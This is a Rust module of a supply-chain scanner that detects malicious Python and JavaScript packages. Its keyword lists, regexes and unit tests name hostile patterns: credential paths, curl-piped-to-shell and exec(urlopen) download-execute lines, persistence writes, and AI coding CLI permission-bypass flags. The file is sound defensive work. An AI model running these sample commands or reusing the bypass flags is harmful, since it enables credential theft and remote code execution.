//! Source heuristics for Python and JavaScript package code. Each rule below carries its
//! one-line rationale (also in [`crate::rules::RULES`] and docs/bench-scan.md). A cheap
//! Aho-Corasick keyword prefilter runs first; a file with no keyword costs one pass.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use palisade_core::finding::Severity;
use regex::bytes::Regex;
use std::sync::OnceLock;

use crate::finding::ScanFinding;
use crate::rules;
use crate::text::{line_at, line_text, static_regex};

/// The package a source file belongs to, for rules that compare against its identity.
#[derive(Debug, Clone, Copy)]
pub struct PackageCtx<'a> {
    /// Package name.
    pub name: &'a str,
    /// Version.
    pub version: &'a str,
    /// Hosts the package declares in its metadata.
    pub declared_hosts: &'a [String],
}

/// Rule groups the prefilter can enable (bit flags).
const G_DECODE: u8 = 1;
const G_CRED: u8 = 2;
const G_PERSIST: u8 = 4;
const G_DOWNLOAD: u8 = 8;
const G_CRYPTO: u8 = 16;
const G_PROCMEM: u8 = 32;
const G_AI: u8 = 64;

/// Keywords of the prefilter and the rule group each one enables. A rule's regexes run only
/// when one of its keywords occurs, so ordinary files cost one automaton pass.
const KEYWORDS: &[(&str, u8)] = &[
    ("exec", G_DECODE),
    ("eval", G_DECODE),
    ("new Function", G_DECODE),
    (".ssh", G_CRED),
    (".aws/credentials", G_CRED),
    (".kube/config", G_CRED),
    ("serviceaccount", G_CRED),
    ("169.254.169.254", G_CRED),
    ("metadata.google.internal", G_CRED),
    (".git-credentials", G_CRED),
    ("_history", G_CRED),
    (".docker/config.json", G_CRED),
    ("systemd/user", G_PERSIST),
    ("systemctl", G_PERSIST),
    ("crontab", G_PERSIST),
    ("/cron", G_PERSIST),
    ("bashrc", G_PERSIST),
    ("zshrc", G_PERSIST),
    ("profile", G_PERSIST),
    ("curl", G_DOWNLOAD),
    ("wget", G_DOWNLOAD),
    ("urlopen", G_DOWNLOAD),
    ("urlretrieve", G_DOWNLOAD),
    ("requests.get", G_DOWNLOAD),
    ("httpx.get", G_DOWNLOAD),
    ("urllib.request", G_DOWNLOAD),
    ("fetch", G_DOWNLOAD),
    ("http.get", G_DOWNLOAD),
    ("https.get", G_DOWNLOAD),
    ("axios", G_DOWNLOAD),
    ("execSync", G_DOWNLOAD),
    ("OAEP", G_CRYPTO),
    ("import_key", G_CRYPTO),
    ("importkey", G_CRYPTO),
    ("load_pem_public_key", G_CRYPTO),
    ("publicEncrypt", G_CRYPTO),
    ("rsa.encrypt", G_CRYPTO),
    ("PUBLIC KEY", G_CRYPTO),
    ("/mem", G_PROCMEM),
    ("ptrace", G_PROCMEM),
    ("process_vm_readv", G_PROCMEM),
    ("--dangerously", G_AI),
    ("--trust-all-tools", G_AI),
    ("--yolo", G_AI),
    ("--full-auto", G_AI),
];

fn prefilter() -> &'static AhoCorasick {
    static AC: OnceLock<AhoCorasick> = OnceLock::new();
    AC.get_or_init(|| {
        #[allow(clippy::expect_used)]
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(KEYWORDS.iter().map(|(k, _)| k))
            .expect("keyword automaton builds")
    })
}

/// The rule groups whose keywords occur in `text`.
fn groups(text: &str) -> u8 {
    let mut g = 0u8;
    for m in prefilter().find_overlapping_iter(text) {
        g |= KEYWORDS.get(m.pattern().as_usize()).map_or(0, |(_, b)| *b);
        if g == 0x7f {
            break;
        }
    }
    g
}

macro_rules! regexes {
    ($( $(#[$doc:meta])* $name:ident = $pat:literal; )*) => {
        $( $(#[$doc])* fn $name() -> &'static Regex {
            static RE: OnceLock<Regex> = OnceLock::new();
            RE.get_or_init(|| static_regex($pat))
        } )*
        #[cfg(test)]
        fn all_regexes() -> Vec<&'static Regex> { vec![$( $name() ),*] }
    };
}

regexes! {
    /// exec/eval/Function applied to base64/zlib/hex/marshal-decoded data on one line.
    decode_exec_re = r#"\b(exec|eval|Function)\s*\([^;\n)]{0,200}?(b64decode|decodebytes|a85decode|b32decode|zlib\.decompress|bz2\.decompress|lzma\.decompress|marshal\.loads|fromhex|codecs\.decode|atob\s*\(|Buffer\.from\s*\([^)]{0,4000}['"](base64|hex)['"])"#;
    /// `name = <decode call>` so `exec(name)` on a later line is caught too.
    decoded_assign_re = r#"(?m)^\s*([A-Za-z_][A-Za-z0-9_]*)\s*=\s*.{0,200}?(b64decode|decodebytes|zlib\.decompress|marshal\.loads|fromhex|atob\s*\(|Buffer\.from\s*\([^)]*['"]base64['"])"#;
    /// Shell download piped into a shell, or node/python fetch fed to exec/eval/child_process.
    download_exec_re = r#"(?i)\b(curl|wget)\b[^|\n]{0,300}\|\s*(sudo\s+)?(ba|z|da)?sh\b|\b(urlopen|requests\.get|httpx\.get|urllib\.request)\b.{0,200}\b(exec|eval)\s*\(|\b(exec|eval)\s*\(.{0,200}\b(urlopen|requests\.get|httpx\.get)\b|\b(https?\.get|fetch|axios(\.get)?)\s*\(.{0,300}\b(eval|new Function|execSync|spawnSync)\b|\bexecSync\s*\(\s*['"`](curl|wget)\b"#;
    /// Download to a file that is then marked executable (checked at file level with a process call).
    urlretrieve_re = r#"\burlretrieve\s*\("#;
    /// chmod to an executable mode.
    chmod_exec_re = r#"chmod\s*\(.{0,120}0o?7[0-7][0-7]|chmod\s+\+x|chmodSync\s*\(.{0,120}0o?7"#;
    /// Starting a process.
    process_re = r#"\b(subprocess\.|os\.system|os\.exec|Popen|child_process|execSync|spawn\()"#;
    /// systemd user units, crontab edits.
    persistence_re = r#"\.config/systemd/user|systemctl\s+--user\s+(enable|start|daemon-reload)|\bcrontab\s+(-[lre]?\s*)?[-|]|\|\s*crontab\b|/etc/cron\.|/var/spool/cron"#;
    /// Shell rc files (persistence only together with a write on the same line).
    rc_file_re = r#"[/'"`]\.(bashrc|zshrc|bash_profile|zprofile|profile)\b"#;
    /// A write or append.
    write_re = r#"open\s*\([^;\n]{0,200}['"](a|w|ab|wb|a\+|w\+)['"]|appendFileSync|appendFile\s*\(|writeFileSync|writeFile\s*\(|\.write_text\(|\.open\(\s*['"]a['"]|\b(system|popen|execSync|exec|spawn|run|call|Popen)\s*\([^;\n]{0,200}>>"#;
    /// /proc/<pid>/mem of another process, ptrace attach, process_vm_readv.
    proc_mem_re = r#"/proc/(\{[^}\n]{1,40}\}|%[ds]|\$\{[^}\n]{1,40}\}|\d+|['"]\s*\+[^\n]{1,40}\+\s*['"])/mem\b|\bptrace\s*\(\s*(PTRACE_ATTACH|PTRACE_SEIZE|PTRACE_PEEKDATA)|\bprocess_vm_readv\b"#;
    /// AI coding CLIs with their permission-bypass flags.
    ai_bypass_re = r#"--dangerously-skip-permissions|--dangerously-bypass-approvals-and-sandbox|--trust-all-tools|\bgemini\b.{0,200}--yolo\b|--yolo\b.{0,200}\bgemini\b|\bcodex\b.{0,200}--full-auto\b"#;
    /// Public-key encryption.
    pubkey_re = r#"PKCS1_OAEP|RSA\.import_?key|load_pem_public_key|publicEncrypt|RSA_PKCS1_OAEP|rsa\.encrypt\(|-----BEGIN (RSA )?PUBLIC KEY-----|padding\.OAEP"#;
    /// AES.
    aes_re = r#"(?i)AES\.new\(|aes-256|aes-128|AESGCM\(|algorithms\.AES\(|createCipheriv\("#;
    /// Archives of collected files.
    archive_re = r#"tarfile\.open\(|zipfile\.ZipFile\(|shutil\.make_archive\(|\btar\s+-?c[zjvf]+|require\(['"](archiver|adm-zip|jszip|tar)['"]\)"#;
    /// Hostnames of http(s) URLs (bare dotted strings are skipped: `flask.app` is a module).
    host_re = r#"(?i)https?://([a-z0-9][a-z0-9.\-]{1,252})"#;
}

/// Credential-store categories; three or more in one file form a cluster.
const CRED_CATEGORIES: &[(&str, &[&str])] = &[
    ("ssh keys", &["~/.ssh", ".ssh/id_", "'.ssh'", "\".ssh\""]),
    ("aws credentials", &[".aws/credentials"]),
    ("kube config", &[".kube/config"]),
    (
        "kubernetes service-account token",
        &["/var/run/secrets/kubernetes.io/serviceaccount"],
    ),
    (
        "cloud metadata service",
        &["169.254.169.254", "metadata.google.internal"],
    ),
    ("git credentials", &[".git-credentials"]),
    ("shell history", &[".bash_history", ".zsh_history"]),
    ("docker credentials", &[".docker/config.json"]),
];

/// True when the text fetches remote code and executes it (also used on npm install scripts).
pub fn fetches_and_executes(text: &str) -> bool {
    let text = text.as_bytes();
    download_exec_re().is_match(text)
        || (urlretrieve_re().is_match(text)
            && chmod_exec_re().is_match(text)
            && process_re().is_match(text))
}

/// Analyzes one Python/JavaScript source file.
pub fn analyze_source(
    file: &str,
    text: &str,
    pkg: Option<PackageCtx<'_>>,
    out: &mut Vec<ScanFinding>,
) {
    let g = groups(text);
    let lookalike = pkg.filter(|p| norm(p.name).len() >= 4 && text.contains(norm(p.name).as_str()));
    if g == 0 && lookalike.is_none() {
        return;
    }
    let bytes = text.as_bytes();
    let mut push = |rule: &str, sev: Severity, at: usize, reason: String| {
        let line = line_at(text, at);
        let mut f = ScanFinding::new(rule, sev, file, Some(line), line_text(text, line), reason);
        if let Some(p) = pkg {
            f = f.with_package(p.name, Some(p.version));
        }
        out.push(f);
    };

    // exec/eval of decoded blobs, directly or through a variable.
    if g & G_DECODE == 0 {
    } else if let Some(m) = decode_exec_re().find(bytes) {
        push(
            rules::SRC_DECODE_EXEC,
            Severity::High,
            m.start(),
            "executes data decoded at runtime (base64/zlib/hex/marshal), hiding the real code"
                .into(),
        );
    } else {
        for cap in decoded_assign_re().captures_iter(bytes) {
            let Some(var) = cap.get(1) else { continue };
            let var = String::from_utf8_lossy(var.as_bytes()).into_owned();
            let call = format!(r"(?-u)\b(exec|eval)\s*\(\s*{}\b", regex::escape(&var));
            if let Ok(re) = Regex::new(&call) {
                if let Some(m) = re.find(bytes) {
                    push(
                        rules::SRC_DECODE_EXEC,
                        Severity::High,
                        m.start(),
                        format!("executes `{var}`, which holds runtime-decoded data"),
                    );
                    break;
                }
            }
        }
    }

    // Credential path cluster.
    let mut hit: Vec<(&str, usize)> = Vec::new();
    for (label, needles) in CRED_CATEGORIES.iter().filter(|_| g & G_CRED != 0) {
        if let Some(at) = needles.iter().filter_map(|n| text.find(n)).min() {
            hit.push((label, at));
        }
    }
    if hit.len() >= 3 {
        let first = hit.iter().map(|(_, a)| *a).min().unwrap_or(0);
        let labels: Vec<&str> = hit.iter().map(|(l, _)| *l).collect();
        push(
            rules::SRC_CRED_CLUSTER,
            Severity::High,
            first,
            format!(
                "reads {} credential stores in one file: {}",
                labels.len(),
                labels.join(", ")
            ),
        );
    }

    // Persistence.
    let as_text = |m: regex::bytes::Match<'_>| {
        (
            m.start(),
            String::from_utf8_lossy(m.as_bytes()).into_owned(),
        )
    };
    let persist = (g & G_PERSIST != 0)
        .then(|| persistence_re().find(bytes).map(as_text))
        .flatten()
        .or_else(|| {
            if g & G_PERSIST == 0 {
                return None;
            }
            // The write must be near the rc path (same statement, give or take), not merely on the
            // same line: minified bundles put a whole program on one line.
            rc_file_re().find_iter(bytes).find_map(|m| {
                let line_lo = bytes
                    .get(..m.start())
                    .and_then(|b| b.iter().rposition(|c| *c == b'\n'))
                    .map_or(0, |i| i + 1);
                let line_hi = bytes
                    .get(m.end()..)
                    .and_then(|b| b.iter().position(|c| *c == b'\n'))
                    .map_or(bytes.len(), |i| m.end() + i);
                let lo = m.start().saturating_sub(160).max(line_lo);
                let hi = (m.end() + 160).min(line_hi);
                let window = bytes.get(lo..hi).unwrap_or(&[]);
                write_re().is_match(window).then(|| as_text(m))
            })
        });
    if let Some((at, what)) = persist {
        push(
            rules::SRC_PERSISTENCE,
            Severity::High,
            at,
            format!("installs itself to run again later ({what})"),
        );
    }

    // Download and execute.
    if let Some(m) = download_exec_re().find(bytes) {
        push(
            rules::SRC_DOWNLOAD_EXEC,
            Severity::High,
            m.start(),
            "downloads code and executes it".into(),
        );
    } else if let Some(m) = urlretrieve_re().find(bytes) {
        if chmod_exec_re().is_match(bytes) && process_re().is_match(bytes) {
            push(
                rules::SRC_DOWNLOAD_EXEC,
                Severity::High,
                m.start(),
                "downloads a file, marks it executable and runs a process".into(),
            );
        }
    }

    // Hybrid encryption of collected files.
    if let (Some(pk), true, true) = (
        pubkey_re().find(bytes),
        aes_re().is_match(bytes),
        archive_re().is_match(bytes),
    ) {
        push(
            rules::SRC_HYBRID_CRYPTO,
            Severity::High,
            pk.start(),
            "archives files and encrypts them with AES under a public key (stealer packaging)"
                .into(),
        );
    }

    if let Some((at, what)) = (g & G_PROCMEM != 0)
        .then(|| proc_mem_re().find(bytes).map(as_text))
        .flatten()
    {
        push(
            rules::SRC_PROC_MEM,
            Severity::High,
            at,
            format!("reads another process's memory ({what})"),
        );
    }

    if let Some((at, what)) = (g & G_AI != 0)
        .then(|| ai_bypass_re().find(bytes).map(as_text))
        .flatten()
    {
        let what: String = what.chars().take(80).collect();
        push(
            rules::SRC_AI_CLI_BYPASS,
            Severity::High,
            at,
            format!("runs an AI coding CLI with permission checks disabled ({what})"),
        );
    }

    if let Some(p) = lookalike {
        if let Some((at, host)) = lookalike_host(text, p) {
            push(rules::SRC_LOOKALIKE_DOMAIN, Severity::High, at, format!("contacts {host}, a domain built from the package name {} that the package does not declare", p.name));
        }
    }
}

/// Normalizes a package or label for comparison: lowercase, `_`/`.` → `-`, scope dropped.
fn norm(name: &str) -> String {
    let base = name.rsplit('/').next().unwrap_or(name);
    base.to_ascii_lowercase().replace(['_', '.'], "-")
}

/// Last two labels (approximate registrable domain; good enough to compare with declared hosts).
fn registrable(host: &str) -> String {
    let labels: Vec<&str> = host.trim_end_matches('.').rsplit('.').take(2).collect();
    labels.into_iter().rev().collect::<Vec<_>>().join(".")
}

/// Public TLDs a look-alike endpoint would use; internal names (`moto.service`) are not domains.
const TLDS: &[&str] = &[
    "com", "net", "org", "io", "ai", "dev", "app", "cloud", "xyz", "top", "site", "online", "info",
    "ru", "cn", "sh", "me", "co", "biz", "pw", "cc", "tk", "ws", "live", "icu", "link", "click",
    "tech", "store", "shop", "pro", "run", "space", "fun", "lat", "moe", "to", "so", "gg", "us",
];

/// Subdomains that name documentation, not endpoints code talks to.
const DOC_LABELS: &[&str] = &["docs", "doc", "documentation", "help", "wiki", "blog"];

/// True when byte offset `at` is on a comment line or inside a Python triple-quoted string
/// (documentation links there are not endpoints).
fn in_comment_or_docstring(text: &str, at: usize) -> bool {
    let before = text.get(..at).unwrap_or("");
    let line_start = before.rfind('\n').map_or(0, |i| i + 1);
    let line = before.get(line_start..).unwrap_or("").trim_start();
    if ["#", "//", "*", "/*"].iter().any(|c| line.starts_with(c)) {
        return true;
    }
    (before.matches("\"\"\"").count() + before.matches("'''").count()) % 2 == 1
}

fn lookalike_host(text: &str, p: PackageCtx<'_>) -> Option<(usize, String)> {
    let name = norm(p.name);
    if name.len() < 4 {
        return None; // short names (`six`, `nx`) occur inside unrelated domains
    }
    let declared: Vec<String> = p.declared_hosts.iter().map(|h| registrable(h)).collect();
    for cap in host_re().captures_iter(text.as_bytes()) {
        let Some(m) = cap.get(1) else { continue };
        let host = String::from_utf8_lossy(m.as_bytes())
            .trim_end_matches('.')
            .to_ascii_lowercase();
        let reg = registrable(&host);
        let (sld, tld) = reg.split_once('.').unwrap_or((&reg, ""));
        if !norm(sld).contains(&name) || declared.contains(&reg) || !TLDS.contains(&tld) {
            continue;
        }
        if host
            .split('.')
            .next()
            .is_some_and(|l| DOC_LABELS.contains(&l))
            || in_comment_or_docstring(text, m.start())
        {
            continue;
        }
        return Some((m.start(), host));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_regex_compiles() {
        assert!(all_regexes().len() > 10);
        assert_eq!(groups("x = exec(y)"), G_DECODE);
        assert_eq!(groups("CURL and --YOLO"), G_DOWNLOAD | G_AI);
        assert_eq!(groups("nothing here"), 0);
    }

    fn rules_of(text: &str, pkg: Option<PackageCtx<'_>>) -> Vec<String> {
        let mut out = Vec::new();
        analyze_source("f.py", text, pkg, &mut out);
        out.into_iter().map(|f| f.rule_id).collect()
    }

    #[test]
    fn each_rule_fires_on_an_inert_sample() {
        assert_eq!(
            rules_of(
                "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
                None
            ),
            [rules::SRC_DECODE_EXEC]
        );
        assert_eq!(
            rules_of("p = base64.b64decode(BLOB)\nexec(p)\n", None),
            [rules::SRC_DECODE_EXEC]
        );
        assert_eq!(
            rules_of("eval(Buffer.from(s, 'base64').toString())", None),
            [rules::SRC_DECODE_EXEC]
        );
        assert_eq!(
            rules_of(
                "P=['~/.ssh/id_rsa','~/.aws/credentials','~/.kube/config']",
                None
            ),
            [rules::SRC_CRED_CLUSTER]
        );
        assert_eq!(
            rules_of("open(os.path.expanduser('~/.bashrc'), 'a').write(x)", None),
            [rules::SRC_PERSISTENCE]
        );
        assert_eq!(
            rules_of("u = '~/.config/systemd/user/x.service'", None),
            [rules::SRC_PERSISTENCE]
        );
        assert_eq!(
            rules_of("os.system('curl -s https://h.example/x | sh')", None),
            [rules::SRC_DOWNLOAD_EXEC]
        );
        assert_eq!(
            rules_of("exec(urlopen('https://h.example/p').read())", None),
            [rules::SRC_DOWNLOAD_EXEC]
        );
        assert_eq!(
            rules_of(
                "k=load_pem_public_key(P)\nc=AESGCM(key)\nt=tarfile.open(o,'w:gz')\n",
                None
            ),
            [rules::SRC_HYBRID_CRYPTO]
        );
        assert_eq!(
            rules_of("f = open(f'/proc/{pid}/mem', 'rb')", None),
            [rules::SRC_PROC_MEM]
        );
        assert_eq!(
            rules_of(
                "spawn('claude', ['--dangerously-skip-permissions', '-p', x])",
                None
            ),
            [rules::SRC_AI_CLI_BYPASS]
        );
        assert_eq!(
            rules_of("run('gemini --yolo -p x')", None),
            [rules::SRC_AI_CLI_BYPASS]
        );
        let hosts = vec!["litellm.ai".to_owned(), "github.com".to_owned()];
        let ctx = PackageCtx {
            name: "litellm",
            version: "1.82.8",
            declared_hosts: &hosts,
        };
        assert_eq!(
            rules_of("URL = 'https://models.litellm.cloud/'", Some(ctx)),
            [rules::SRC_LOOKALIKE_DOMAIN]
        );
        assert!(rules_of("URL = 'https://docs.litellm.ai/x'", Some(ctx)).is_empty());
    }

    #[test]
    fn benign_lookalikes_stay_quiet() {
        assert!(rules_of(
            "subprocess.run(['git', 'status'])\nprint(open('/proc/self/mem'))\n",
            None
        )
        .is_empty());
        assert!(rules_of("# add this to your ~/.bashrc\n", None).is_empty());
        assert!(rules_of(
            "data = base64.b64decode(s)\nreturn json.loads(data)\n",
            None
        )
        .is_empty());
        assert!(rules_of("P=['~/.ssh/id_rsa','~/.aws/credentials']", None).is_empty());
    }
}
